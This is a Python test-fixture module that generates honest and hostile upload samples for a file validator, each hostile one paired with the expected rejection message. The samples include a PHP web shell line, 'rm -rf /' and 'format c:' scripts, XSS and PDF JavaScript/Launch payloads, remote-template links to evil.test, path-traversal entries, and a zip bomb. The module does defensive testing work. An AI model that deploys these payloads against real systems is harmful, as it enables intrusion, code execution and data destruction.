"""Honest and hostile files, made here so that none lies in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

TYPE = "application/vnd.openxmlformats-officedocument."
DOCX_TYPE, XLSX_TYPE = f"{TYPE}wordprocessingml.document.main+xml", f"{TYPE}spreadsheetml.sheet.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + bytes(60) + b"This program cannot be run in DOS mode."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def pdf(inside: bytes = b"", after_header: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n" + after_header + b"1 0 obj <</Type /Catalog>> endobj\n" + inside
    return body + b"trailer <</Root 1 0 R>>\nstartxref\n" + str(len(body)).encode() + b"\n%%EOF\n"


def png(extra: bytes = b"", size: tuple[int, int] = (1, 1)) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 0, 0, 0, 0))
    more = chunk(b"tEXt", b"Comment\0" + extra) if extra else b""
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def jpg(comment: bytes = b"Photo", shape: tuple[int, int] = (1, 1)) -> bytes:
    def segment(marker: int, data: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data

    size = segment(0xC0, b"\x08" + struct.pack(">HH", *reversed(shape)) + b"\x01\x01\x11\0")
    lines = segment(0xDA, b"\x01\x01\0\0\x3f\0") + b"\x12\xff\x00\x34"
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0")
        + segment(0xFE, comment)
        + size
        + lines
        + b"\xff\xd9"
    )


def archive(parts: Mapping[str, bytes], *, comment: bytes = b"", method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as made:
        for name, data in parts.items():
            made.writestr(name, data)
        made.comment = comment
    return file.getvalue()


def types(part: str, kind: str, more: str = "") -> bytes:
    override = f'<Override PartName="/{part}" ContentType="{kind}"/>{more}'
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    return f'<?xml version="1.0"?><Types xmlns="{space}">{override}</Types>'.encode()


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    one = f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{one}</Relationships>'.encode()


def docx(more: Mapping[str, bytes] | None = None, kind: str = DOCX_TYPE, comment: bytes = b"") -> bytes:
    parts = {"[Content_Types].xml": types("word/document.xml", kind), "word/document.xml": b"<w:document/>"}
    return archive(parts | dict(more or {}), comment=comment)


def xlsx(more: Mapping[str, bytes] | None = None) -> bytes:
    parts = {"[Content_Types].xml": types("xl/workbook.xml", XLSX_TYPE), "xl/workbook.xml": b"<workbook/>"}
    return archive(parts | dict(more or {}))


def locked(data: bytes) -> bytes:
    """The archive with the flag of a password on every entry of its directory."""
    at, changed = 0, bytearray(data)
    while (at := changed.find(b"PK\x01\x02", at)) >= 0:
        changed[at + 8] |= 1
        at += 4
    return bytes(changed)


def called_otherwise(data: bytes) -> bytes:
    """The archive whose entries are called one thing in front of them and another in the directory."""
    return data.replace(b"word/document.xml", b"word/d0cument.xml", 1)


def twice(name: str) -> bytes:
    """A Word file with two entries of one name."""
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a") as made:
        info = zipfile.ZipInfo("word/Document.xml")
        made.writestr(info, name)
    return file.getvalue()


def upload(name: str, content: bytes, kind: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, kind)


def stored() -> set[str]:
    """The files in the store of this test run."""
    root = settings.EVIDENCE_DIR
    return {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()}


HONEST = {
    "report.pdf": pdf(),
    "minutes.docx": docx({"word/_rels/document.xml.rels": relations("hyperlink", "https://example.org")}),
    "figures.xlsx": xlsx({"xl/printerSettings/printerSettings1.bin": bytes(20)}),
    "figures.csv": b"name,value\r\nPSO,53%\r\n",
    "formula.csv": b'=HYPERLINK("https://example.org"),1\r\n',
    "windows.csv": "team;caf\xe9\r\n".encode("cp1252"),
    "excel.csv": "team\tvalue\r\n".encode("utf-16"),
    "notes.txt": "\ufeffWhat we saw: 3 < 4, and <b> was said.\n".encode(),
    "chart.png": png(b"Software\0Paint"),
    "photo.jpg": jpg(),
    "two.JPEG": jpg() + jpg(b"Second"),
}
WEB = "contains a web page or a script"
CUT = "damaged"
UNKNOWN = "it is not a text file"
BEHIND = "something else is hidden in the image"
MACROS = "it contains macros"
INSIDE = "it is not a standard Word or Excel file"
# What each is called, what it holds, and what the person is told.
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "empty": ("empty.pdf", b"", "it is empty"),
    "11 MB": ("long.txt", b"a" * 11 * 1024 * 1024, "larger than 10 MB"),
    "exe": ("setup.exe", EXE, "its name must end in"),
    "exe as pdf": ("setup.pdf", EXE, "it is not a PDF"),
    "exe after override": ("invoice\u202efdp.exe", pdf(), "its name must end in"),
    "no ending": ("report", pdf(), "its name must end in"),
    "html": ("page.html", HTML, "its name must end in"),
    "html as txt": ("page.txt", HTML, WEB),
    "html as csv behind a mark": ("page.csv", b"\xef\xbb\xbf \n" + HTML, WEB),
    "html as utf-16 csv": ("page.csv", HTML.decode().encode("utf-16"), WEB),
    "html further down": ("page.txt", b"Minutes\n" + HTML, WEB),
    "svg": ("drawing.svg", b"<svg onload='alert(1)'/>", "its name must end in"),
    "svg as png": ("drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", WEB),
    "xml as txt": ("data.txt", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>", WEB),
    "php as txt": ("shell.txt", b"<?php system($_GET['c']);", WEB),
    "shell script": ("run.txt", b"#!/bin/sh\nrm -rf /\n", WEB),
    "batch file": ("run.txt", b"@echo off\r\nformat c:\r\n", WEB),
    "rtf as txt": ("letter.txt", rb"{\rtf1\ansi}", WEB),
    "NULs": ("notes.txt", b"a\0b", UNKNOWN),
    "escapes": ("notes.txt", b"\x1b[2J\x1b]0;title\x07", UNKNOWN),
    "half of a UTF-16 letter": ("notes.csv", b"\xff\xfea\0b", UNKNOWN),
    "gif as jpg": ("picture.jpg", b"GIF89a" + bytes(20), "it is not a JPG image"),
    "GIFAR": ("picture.jpg", b"GIF89a" + bytes(20) + archive({"a.class": b"x"}), "ZIP archive"),
    "pdf as png": ("report.png", pdf(), "it is not a PNG image"),
    "png as jpg": ("chart.jpg", png(), "it is not a JPG image"),
    "docx as xlsx": ("minutes.xlsx", docx(), "it is not an Excel workbook"),
    "text as pdf": ("report.pdf", b"Just words", "it is not a PDF"),
    "cut pdf": ("report.pdf", pdf()[:-8], CUT),
    "pdf and html": ("report.pdf", pdf(after_header=HTML), WEB),
    "html and pdf": ("report.pdf", HTML + pdf(), WEB),
    "pdf and zip": ("report.pdf", pdf() + archive({"a.class": b"x"}), "ZIP archive"),
    "pdf in the comment of a zip": ("report.pdf", archive({"a": b"x"}, comment=pdf()), "more than the document"),
    "pdf with a script": ("report.pdf", pdf(b"<</S /JavaScript /JS (app.alert(1))>>"), "script or another file"),
    "pdf with a hidden script": ("report.pdf", pdf(b"<</S /J#61vaScript>>"), "script or another file"),
    "pdf that launches": ("report.pdf", pdf(b"<</S /Launch /F (cmd.exe)>>"), "script or another file"),
    "pdf with a password": ("report.pdf", pdf(b"<</Encrypt 2 0 R>>"), "a password"),
    "cut png": ("chart.png", png()[:-6], CUT),
    "png with a wrong sum": ("chart.png", png().replace(b"IDAT", b"IDAt"), CUT),
    "png and zip": ("chart.png", png() + archive({"a.class": b"x"}), "ZIP archive"),
    "png and html": ("chart.png", png() + HTML, BEHIND),
    "html inside a png": ("chart.png", png(HTML), WEB),
    "cut jpg": ("photo.jpg", jpg()[:-3], CUT),
    "jpg and html": ("photo.jpg", jpg() + HTML, BEHIND),
    "html inside a jpg": ("photo.jpg", jpg(HTML), WEB),
    "zip as docx": ("minutes.docx", archive({"a.txt": b"x"}), "not a Word or Excel file"),
    "docx without types": ("minutes.docx", archive({"word/document.xml": b"<w/>"}), "not a Word or Excel file"),
    "cut docx": ("minutes.docx", docx()[:-30], CUT),
    "old doc": ("minutes.docx", OLE, "a password"),
    "docx with a password": ("minutes.docx", locked(docx()), "a password"),
    "docx with macros": ("minutes.docx", docx({"word/vbaProject.bin": b"x"}), MACROS),
    "docm": ("minutes.docx", docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), MACROS),
    "xlsx with old macros": ("figures.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), MACROS),
    "template": ("minutes.docx", docx(kind=f"{TYPE}wordprocessingml.template.main+xml"), "a template"),
    "template from elsewhere": (
        "minutes.docx",
        docx({"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://evil.test/a.dotm")}),
        "from elsewhere",
    ),
    "the same, written otherwise": (
        "minutes.docx",
        docx({"word/_rels/settings.xml.rels": relations("frame", "http://evil.test/", "&#69;xternal")}),
        "from elsewhere",
    ),
    "embedded program": ("minutes.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    "path out of it": ("minutes.docx", docx({"../../etc/cron.d/x": b"x"}), INSIDE),
    "whole path": ("minutes.docx", docx({"/etc/passwd": b"x"}), INSIDE),
    "two of one name": ("minutes.docx", twice("x"), INSIDE),
    "two names for one": ("minutes.docx", called_otherwise(docx()), INSIDE),
    "zip bomb": (
        "figures.xlsx",
        xlsx({"xl/worksheets/sheet1.xml": bytes(30 * 1024 * 1024)}),
        "too large when unpacked",
    ),
    "many entries": ("figures.xlsx", xlsx({f"xl/s{n}.xml": b"" for n in range(2001)}), "too large when unpacked"),
    "entities": (
        "minutes.docx",
        archive({"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>", "word/document.xml": b""}),
        CUT,
    ),
    "something before": ("minutes.docx", b"PK\x03\x04" + bytes(30) + docx(), "more than the document itself"),
    "something behind": ("minutes.docx", docx(comment=HTML), "more than the document itself"),
    "word and excel": ("minutes.docx", docx({"xl/workbook.xml": b"<x/>"}), "not a Word or Excel file"),
}
